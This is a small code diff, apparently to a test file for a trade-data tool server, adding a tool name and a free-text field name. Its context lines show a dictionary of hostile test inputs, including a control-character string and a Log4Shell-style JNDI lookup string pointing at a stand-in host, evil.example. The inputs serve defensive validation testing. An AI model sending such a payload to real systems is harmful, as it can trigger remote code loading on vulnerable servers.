@@ -34,7 +34,7 @@ UPSTREAM_TOOLS = {
     *("comtrade_data", "comtrade_reference"),
 }
 
-OWN_TOOLS = {"usage", "rows"}
+OWN_TOOLS = {"search_codes", "usage", "rows"}
 
 HOSTILE = {
     "control characters": "85\x0017",
@@ -47,7 +47,7 @@ HOSTILE = {
     "template": "${jndi:ldap://evil.example/a}",
 }
 
-FREE_TEXT = {"search", "table", "columns", "sort", "filter"}
+FREE_TEXT = {"search", "query", "table", "columns", "sort", "filter"}
 """Words to filter by, or names in a stored answer: any printable text on one line may be right."""
 
 
